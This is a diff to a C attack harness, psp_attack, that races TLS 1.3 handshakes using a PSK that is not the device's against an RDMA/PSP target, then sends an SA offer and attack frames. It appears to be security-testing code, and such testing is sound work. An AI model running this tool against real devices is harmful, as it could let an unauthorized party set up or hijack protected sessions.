@@ -20,10 +20,12 @@
  *       with psp_peer -G GATE) the attacker's hello is first: the
  *       acceptor may go to RTR once the first attempt's bytes are sent,
  *       the real peer once their fate is known
- *   psp_attack tls ADDR TARGET_INFO PEER_INFO [IDENTITY]
- *       a TLS 1.3 handshake with an external PSK that is not the
- *       device's (random; identity IDENTITY, default "rdma-tcp"), then,
- *       if it completed, an SA offer and the plain attack's frames
+ *   psp_attack tls ADDR TARGET_INFO PEER_INFO SECS [GATE]
+ *       TLS 1.3 handshakes with an external PSK that is not the device's
+ *       (random; identity $PSP_ATTACK_ID, default "rdma-tcp"), each, if
+ *       it completed, followed by an SA offer and the plain attack's
+ *       frames, for SECS seconds; with GATE the pair comes up after the
+ *       first
  *
  * The INFO files are psp_peer's ("QPN RKEY ADDR GID"), waited for up to
  * 30 s; of the two, the accepting end (the larger GID, QPN) is attacked. Prints one line per attempt: "refused" (connect failed),
@@ -216,16 +218,6 @@ static void plain_attempt(struct target *a)
 	close(fd);
 }
 
-static void race(struct target *a, int secs)
-{
-	uint64_t end = now_ms() + (uint64_t)secs * 1000;
-
-	while (now_ms() < end) {
-		plain_attempt(a);
-		sleep_ms(20); /* load shaping: an attempt every 20 ms */
-	}
-}
-
 static uint8_t wrong_psk[32];
 static const char *psk_id = "rdma-tcp";
 
@@ -294,13 +286,21 @@ static void tls_attempt(struct target *a)
 	ssl = SSL_new(c);
 	SSL_set_fd(ssl, fd);
 	r = SSL_connect(ssl);
+	/* the first attempt is over: the pair may come up (psp_peer -G) */
+	if (a->gate && a->attempts == 1) {
+		open_gate(a, a->t.qpn);
+		open_gate(a, a->p.qpn);
+	}
 	if (r == 1) {
 		puts("tls COMPLETED with a key that is not the device's");
 		a->tls_done++;
 		after_tls(a, ssl, fd);
 	} else {
-		printf("tls refused: %s\n",
-		       ERR_reason_error_string(ERR_get_error()) ?: "closed");
+		if (a->attempts <= 3)
+			printf("tls refused: %s\n",
+			       ERR_reason_error_string(ERR_get_error())
+				       ?: "closed");
+		ERR_clear_error();
 		a->dropped++;
 	}
 out:
@@ -308,6 +308,17 @@ out:
 	SSL_CTX_free(c);
 	if (fd >= 0)
 		close(fd);
+}
+
+/* @attempt again and again (every 20 ms) for @secs seconds */
+static void race(struct target *a, int secs, void (*attempt)(struct target *))
+{
+	uint64_t end = now_ms() + (uint64_t)secs * 1000;
+
+	while (now_ms() < end) {
+		attempt(a);
+		sleep_ms(20); /* load shaping: an attempt every 20 ms */
+	}
 }
 
 static int open_mode(const char *dev)
@@ -333,9 +344,10 @@ int main(int argc, char **argv)
 		return open_mode(argv[2]);
 	if (argc < 5) {
 		fprintf(stderr, "usage: psp_attack open DEV | plain|race|tls "
-				"ADDR TARGET_INFO PEER_INFO [SECS|ID]\n");
+				"ADDR TARGET_INFO PEER_INFO [SECS [GATE]]\n");
 		return 2;
 	}
+	a.gate = argc >= 7 ? argv[6] : NULL;
 	a.addr = argv[2];
 	if (read_info(argv[3], &a.t) || read_info(argv[4], &a.p)) {
 		fprintf(stderr, "psp_attack: no info files\n");
@@ -344,16 +356,15 @@ int main(int argc, char **argv)
 	if (!acceptor_first(&a))
 		puts("the peer accepts (its GID, QPN is the larger): target "
 		     "and peer swapped");
+	if (getenv("PSP_ATTACK_ID"))
+		psk_id = getenv("PSP_ATTACK_ID");
 	if (!strcmp(argv[1], "plain"))
 		plain_attempt(&a);
-	else if (!strcmp(argv[1], "race") && argc >= 6) {
-		a.gate = argc == 7 ? argv[6] : NULL;
-		race(&a, atoi(argv[5]));
-	} else if (!strcmp(argv[1], "tls")) {
-		if (argc == 6)
-			psk_id = argv[5];
-		tls_attempt(&a);
-	} else
+	else if (!strcmp(argv[1], "race") && argc >= 6)
+		race(&a, atoi(argv[5]), plain_attempt);
+	else if (!strcmp(argv[1], "tls") && argc >= 6)
+		race(&a, atoi(argv[5]), tls_attempt);
+	else
 		return 2;
 	printf("attempts %d dropped %d refused %d held %d tls_completed %d\n",
 	       a.attempts, a.dropped, a.refused, a.held, a.tls_done);
